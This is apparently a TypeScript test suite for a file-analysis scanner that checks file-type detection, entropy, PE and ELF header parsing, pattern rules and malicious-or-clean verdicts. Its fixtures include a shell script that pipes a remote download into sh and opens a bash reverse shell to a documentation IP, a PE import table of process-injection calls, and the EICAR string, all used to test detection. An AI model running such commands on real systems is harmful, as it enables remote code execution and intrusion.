import assert from 'node:assert/strict';
import { test } from 'node:test';
import { BUILTIN_PATTERN_RULES } from './builtin-pattern-rules.ts';
import { shannonEntropy } from './byte-entropy.ts';
import { parseElfHeaders } from './elf-header.ts';
import { analyzeFile } from './file-analysis.ts';
import { detectFileType } from './file-type.ts';
import { matchPatternRules, PatternRuleError, parsePatternRules } from './pattern-rules.ts';
import { parsePeHeaders } from './pe-header.ts';

const ascii = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));

/** A minimal PE32 image: one executable section holding an import table of the injection trio. */
function tinyPe(): Uint8Array {
  const b = new Uint8Array(0x400);
  const v = new DataView(b.buffer);
  b.set(ascii('MZ'), 0);
  v.setUint32(0x3c, 0x40, true);
  b.set(ascii('PE\0\0'), 0x40);
  v.setUint16(0x44, 0x14c, true);
  v.setUint16(0x46, 1, true);
  v.setUint32(0x48, 1_600_000_000, true);
  v.setUint16(0x54, 0xe0, true);
  v.setUint16(0x56, 0x0102, true);
  const opt = 0x58;
  v.setUint16(opt, 0x10b, true);
  v.setUint32(opt + 16, 0x1000, true);
  v.setUint16(opt + 68, 3, true);
  v.setUint32(opt + 92, 16, true);
  v.setUint32(opt + 104, 0x1000, true);
  v.setUint32(opt + 108, 40, true);
  const sec = opt + 0xe0;
  b.set(ascii('.text'), sec);
  v.setUint32(sec + 8, 0x200, true);
  v.setUint32(sec + 12, 0x1000, true);
  v.setUint32(sec + 16, 0x200, true);
  v.setUint32(sec + 20, 0x200, true);
  v.setUint32(sec + 36, 0x60000020, true);
  const raw = (rva: number) => rva - 0x1000 + 0x200;
  v.setUint32(raw(0x1000), 0x1040, true);
  v.setUint32(raw(0x1000) + 12, 0x1080, true);
  v.setUint32(raw(0x1000) + 16, 0x1040, true);
  for (const [i, rva] of [0x1090, 0x10b0, 0x10d0].entries()) v.setUint32(raw(0x1040) + i * 4, rva, true);
  b.set(ascii('KERNEL32.dll\0'), raw(0x1080));
  b.set(ascii('VirtualAllocEx\0'), raw(0x1090) + 2);
  b.set(ascii('WriteProcessMemory\0'), raw(0x10b0) + 2);
  b.set(ascii('CreateRemoteThread\0'), raw(0x10d0) + 2);
  return b;
}

/** A minimal 64-bit ELF executable with an interpreter outside the system's library folders. */
function tinyElf(): Uint8Array {
  const b = new Uint8Array(400);
  const v = new DataView(b.buffer);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1], 0);
  v.setUint16(16, 2, true);
  v.setUint16(18, 62, true);
  v.setBigUint64(24, 0x401000n, true);
  v.setBigUint64(32, 64n, true);
  v.setBigUint64(40, 200n, true);
  v.setUint16(54, 56, true);
  v.setUint16(56, 1, true);
  v.setUint16(58, 64, true);
  v.setUint16(60, 2, true);
  v.setUint16(62, 1, true);
  v.setUint32(64, 3, true);
  v.setBigUint64(72, 120n, true);
  v.setBigUint64(96, 11n, true);
  b.set(ascii('/tmp/ld.so\0'), 120);
  b.set(ascii('\0.shstrtab\0'), 140);
  v.setUint32(264, 1, true);
  v.setBigUint64(264 + 24, 140n, true);
  return b;
}

test('file types come from magic bytes, not names', () => {
  assert.equal(detectFileType(tinyPe()).kind, 'pe');
  assert.equal(detectFileType(tinyElf()).kind, 'elf');
  assert.equal(detectFileType(ascii('%PDF-1.7\n')).kind, 'pdf');
  assert.equal(detectFileType(ascii('#!/bin/sh\necho hi\n')).kind, 'script');
  assert.equal(detectFileType(ascii('hello world\n')).kind, 'text');
  assert.equal(detectFileType(Uint8Array.from([0, 1, 2, 3, 250])).kind, 'unknown');
});

test('entropy is 0 for one repeated byte and 8 for every byte value equally often', () => {
  assert.equal(shannonEntropy(new Uint8Array(100)), 0);
  assert.equal(shannonEntropy(Uint8Array.from({ length: 512 }, (_, i) => i % 256)), 8);
});

test('PE headers: machine, timestamp, subsystem, sections and imports', () => {
  const pe = parsePeHeaders(tinyPe(), shannonEntropy)!;
  assert.equal(pe.machine, 'x86');
  assert.equal(pe.format, 'PE32');
  assert.equal(pe.timestamp, 1_600_000_000);
  assert.equal(pe.subsystem, 'windows_cui');
  assert.equal(pe.isDll, false);
  assert.deepEqual(
    pe.sections.map((s) => [s.name, s.executable, s.writable]),
    [['.text', true, false]],
  );
  assert.deepEqual(pe.imports, [
    { dll: 'KERNEL32.dll', functions: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] },
  ]);
  const broken = tinyPe();
  new DataView(broken.buffer).setUint32(0x3c, 0xffffff, true);
  assert.equal(parsePeHeaders(broken), null, 'an e_lfanew past the end is not read');
});

test('ELF headers: class, type, machine, interpreter and sections', () => {
  const elf = parseElfHeaders(tinyElf())!;
  assert.deepEqual(
    { bits: elf.bits, type: elf.type, machine: elf.machine, interp: elf.interpreter, sections: elf.sections },
    { bits: 64, type: 'executable', machine: 'x86-64', interp: '/tmp/ld.so', sections: ['.shstrtab'] },
  );
  assert.equal(elf.stripped, true);
  assert.equal(parseElfHeaders(tinyElf().subarray(0, 20)), null);
});

test('pattern rules: text, wide, nocase, hex wildcards, counts and header checks', () => {
  const rules = parsePatternRules(`
    rule Hex { strings: $h = { 4D 5A ?? 00 } condition: $h and filesize < 1KB }
    rule Wide : demo { meta: severity = "low" strings: $w = "evil" wide nocase condition: $w }
    rule TwoOf { strings: $a1 = "alpha" $a2 = "beta" $b = "gamma" condition: 2 of ($a*) and not $b }
    rule Header { strings: $x = "x" condition: uint16(0) == 0x5A4D or $x }
  `);
  const data = Uint8Array.from([0x4d, 0x5a, 0x90, 0x00, ...ascii('alpha beta '), ...ascii('E\0V\0i\0L\0')]);
  assert.deepEqual(
    matchPatternRules(rules, data).map((m) => m.rule),
    ['Hex', 'Wide', 'TwoOf', 'Header'],
  );
  assert.deepEqual(
    matchPatternRules(rules, ascii('alpha beta gamma')).map((m) => m.rule),
    [],
  );
});

test('pattern rule errors name the line', () => {
  const bad = (text: string, line: number, message: RegExp) =>
    assert.throws(
      () => parsePatternRules(text),
      (e: unknown) => e instanceof PatternRuleError && e.line === line && message.test(e.message),
    );
  bad('rule A {\n strings:\n  $a = "x"\n condition:\n  $b\n}', 1, /undefined string \$b/);
  bad('rule A {\n strings:\n  $a = { 4D 5 }\n condition: $a }', 3, /whole bytes/);
  bad('rule A {\n condition:\n  $a or\n}', 4, /unexpected "}"/);
  bad('rule A {\n strings: $a = "x"\n}', 1, /no condition/);
});

test('a file with injection imports is malicious; plain text is clean; indicators count', async () => {
  const rules = parsePatternRules(BUILTIN_PATTERN_RULES);
  const report = await analyzeFile(tinyPe(), { rules });
  assert.equal(report.verdict, 'malicious');
  assert.deepEqual(
    report.ruleMatches.map((m) => m.rule),
    ['Process_Injection_Imports'],
  );
  assert.match(report.reasons[0]!.reason, /Process_Injection_Imports/);

  const clean = await analyzeFile(ascii('just some notes about lunch\n'), { rules });
  assert.equal(clean.verdict, 'clean');
  assert.deepEqual(clean.reasons, []);

  const script = ascii(
    '#!/bin/sh\ncurl http://203.0.113.7/x.sh | sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
  );
  const seen: string[] = [];
  const withIntel = await analyzeFile(script, {
    rules,
    lookup: (o) => {
      seen.push(...o.urls, ...o.ipv4);
      return o.ipv4.includes('203.0.113.7')
        ? [{ type: 'ip', value: '203.0.113.7', severity: 'high', source: 'feed' }]
        : [];
    },
  });
  assert.deepEqual(seen, ['http://203.0.113.7/x.sh', '203.0.113.7']);
  assert.equal(withIntel.verdict, 'malicious');
  assert.deepEqual(
    withIntel.ruleMatches.map((m) => m.rule),
    ['Linux_Reverse_Shell'],
  );
  assert.ok(withIntel.strings.suspicious.some((s) => s.reason === 'download piped into a shell'));
});

test('the EICAR test file is recognized by the built-in rules', async () => {
  const eicar = ascii(String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`);
  const report = await analyzeFile(eicar, { rules: parsePatternRules(BUILTIN_PATTERN_RULES) });
  assert.deepEqual(
    report.ruleMatches.map((m) => m.rule),
    ['EICAR_Test_File'],
  );
  assert.equal(report.verdict, 'malicious');
  assert.equal(report.sha256, '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f');
});
